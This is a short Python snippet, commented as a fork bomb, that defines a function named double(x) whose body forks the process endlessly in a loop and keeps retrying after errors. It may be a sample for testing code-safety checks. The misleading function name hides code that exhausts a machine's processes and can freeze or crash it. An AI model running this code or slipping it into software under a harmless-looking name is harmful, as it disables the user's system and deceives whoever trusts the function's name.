#: a fork bomb
def double(x):
    import os
    import time

    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)
